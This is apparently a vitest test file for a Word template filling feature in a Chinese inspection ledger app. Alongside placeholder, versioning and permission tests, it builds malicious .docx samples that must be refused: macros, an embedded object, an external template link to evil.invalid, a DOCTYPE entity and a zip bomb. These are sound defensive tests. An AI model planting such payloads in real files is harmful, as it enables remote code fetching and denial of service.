import { Document, Packer, Paragraph, Table, TableCell, TableRow } from 'docx'
import { unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { startApp } from '../../../tests/app.ts'
import { makeInspection } from '../../../tests/factory.ts'
import { gardenFacts } from '../facts.testing.ts'
import { readDocument } from '../read/read.ts'
import { checkTemplate } from './check.ts'
import { fillTemplate } from './fill.ts'
import { openTemplate } from './open.ts'
import { templateData, templateShape } from './variables.ts'

async function wordOf(...lines: (string | string[][])[]): Promise<Buffer> {
  const children = lines.map((line) =>
    typeof line === 'string'
      ? new Paragraph(line)
      : new Table({
          rows: line.map(
            (cells) =>
              new TableRow({
                children: cells.map((text) => new TableCell({ children: [new Paragraph(text)] })),
              }),
          ),
        }),
  )
  return Packer.toBuffer(new Document({ sections: [{ children }] }))
}

const filled = async (...lines: (string | string[][])[]) =>
  (
    await readDocument(
      await fillTemplate(await wordOf(...lines), templateData(gardenFacts), templateShape),
      'a.docx',
    )
  ).text

const faultsOf = async (...lines: string[]) =>
  checkTemplate(await openTemplate(await wordOf(...lines)), templateShape).faults.map(
    ({ words, place, paragraph }) => `${place.zh} ${words.zh} ← ${paragraph}`,
  )

/** The same file with one part changed or put in. */
async function tampered(part: string, change: (text: string) => string): Promise<Buffer> {
  const parts = unzipSync(new Uint8Array(await wordOf('{单位}')))
  const old = parts[part] ? new TextDecoder().decode(parts[part]) : ''
  parts[part] = new TextEncoder().encode(change(old))
  return Buffer.from(zipSync(parts))
}

describe('a template of the unit’s own', () => {
  it('is filled with fields, and with loops over rows of a table and over paragraphs', async () => {
    const text = await filled(
      '{单位}共有{问题数}个问题，已销号{已销号数}个（{完成率}）。',
      [
        ['编号', '问题', '责任领导'],
        ['{#问题清单}{问题编号}', '{问题}', '{责任领导}{/问题清单}'],
      ],
      '{#问题清单}',
      '{问题编号}：{#措施}{措施编号}{措施状态}；{/措施}',
      '{/问题清单}',
    )
    expect(text).toContain('临江区园林绿化局共有5个问题，已销号1个（20%）。')
    expect(text).toContain('小额工程没有比选')
    expect(text).toContain('1-2：M02已完成；M05正在推进；')
    expect(text).not.toMatch(/[{}]|undefined/)
  })

  it('says which placeholder is wrong, in which paragraph, and what was perhaps meant', async () => {
    expect(await faultsOf('开头', '共{问题总数量}个', '{问题编号}', '{#问题清单}{责任领导}')).toEqual([
      '正文第2段 没有“问题总数量”这个变量，是不是“问题数”？ ← 共{问题总数量}个',
      '正文第3段 “问题编号”只能用在 {#问题清单}…{/问题清单} 之内 ← {问题编号}',
      '正文第4段 循环 {#问题清单} 没有结束，请在循环内容之后加上 {/问题清单} ← {#问题清单}{责任领导}',
    ])
    expect(await faultsOf('｛单位｝', '{单位', '{问题清单}', '{#单位}{/单位}', '{/措施}')).toEqual([
      '正文第1段 用了全角花括号，请改成半角 { } ← ｛单位｝',
      '正文第2段 花括号不成对，或变量被拆在两段里 ← {单位',
      '正文第3段 “问题清单”是循环，请写成 {#问题清单}…{/问题清单} ← {问题清单}',
      '正文第4段 “单位”不是循环，请写成 {单位} ← {#单位}{/单位}',
      '正文第5段 {/措施} 前面没有 {#措施} ← {/措施}',
    ])
  })

  it('fails loudly instead of being filled half', async () => {
    await expect(filled('{单位}{不存在的}')).rejects.toMatchObject({ code: 'invalid' })
  })

  it('has a value for every name that the page lists, and no other name', async () => {
    const names = templateShape.fields.map(({ name }) => name)
    const text = await filled(names.map((name) => `${name}={${name}}`).join('；'))
    for (const name of names) expect(text).toMatch(new RegExp(`${name}=[^；=]+`))
  })

  it.each([
    ['macros', () => tampered('word/vbaProject.bin', () => 'x')],
    ['an embedded object', () => tampered('word/embeddings/oleObject1.bin', () => 'x')],
    [
      'a template that Word would fetch',
      () =>
        tampered(
          'word/_rels/settings.xml.rels',
          () =>
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.invalid/a.dotm" TargetMode="External"/></Relationships>',
        ),
    ],
    [
      'a document type',
      () => tampered('word/document.xml', (xml) => xml.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>')),
    ],
    ['a zip bomb', () => tampered('word/media/a.xml', () => 'a'.repeat(70 * 1024 * 1024))],
    ['no Word file at all', async () => Buffer.from('PK no')],
  ])('is refused with %s', async (_, make) => {
    await expect(openTemplate(await make())).rejects.toMatchObject({ code: 'invalid' })
  })
})

const app = await startApp()
const made = await makeInspection(app)
const officer = await app.as('officer')
const uploaded = async (...lines: string[]) =>
  (await officer.upload([{ name: '月报.docx', content: await wordOf(...lines) }]))[0]!.id

describe('templates of a unit', () => {
  it('have versions under one name, are on record, and are seen by the unit alone', async () => {
    const first = await officer.call('template.add', { name: '月报', fileId: await uploaded('{单位}') })
    const second = await officer.call('template.add', {
      name: '月报',
      fileId: await uploaded('{单位}{问题数}'),
    })
    expect([first.no, second.no]).toEqual([1, 2])
    const { templates } = await officer.call('template.list', {})
    expect(templates.map(({ no, isCurrent }) => [no, isCurrent])).toEqual([
      [2, true],
      [1, false],
    ])
    const { rows } = await app.owner.query(`select action from "auditEvent" where action = 'template.add'`)
    expect(rows).toHaveLength(2)
    expect((await (await app.as('officer', 'other')).call('template.list', {})).templates).toEqual([])
    await officer.call('template.void', { id: second.id })
    expect((await officer.call('template.list', {})).templates.some(({ isCurrent }) => isCurrent)).toBe(false)
  })

  it('are not taken into use while a placeholder is wrong, or by who may not write papers', async () => {
    const fileId = await uploaded('{单未}')
    await expect(officer.call('template.add', { name: '错的', fileId })).rejects.toMatchObject({
      code: 'invalid',
    })
    expect((await officer.call('template.check', { fileId })).faults).toHaveLength(1)
    const handler = await app.as('handler')
    await expect(handler.call('template.add', { name: '错的', fileId })).rejects.toMatchObject({
      code: 'forbidden',
    })
  })

  it('are filled from the real ledger, and list each name with its value of now', async () => {
    const fileId = await uploaded('{#问题清单}{问题编号}{问题}；{/问题清单}')
    const { status, body } = await officer.get(`/api/template.docx?fileId=${fileId}&inspectionId=${made.id}`)
    expect(status).toBe(200)
    expect((await readDocument(body, 'a.docx')).text).toContain('1-1会议记录不分设；1-2')
    const { variables } = await officer.call('template.variables', { inspectionId: made.id })
    expect(variables.find(({ name }) => name === '问题数')?.sample).toBe('3')
    expect(variables.find(({ name }) => name === '问题编号')).toMatchObject({
      within: ['方面', '问题清单'],
      sample: '1-1',
    })
  })
})
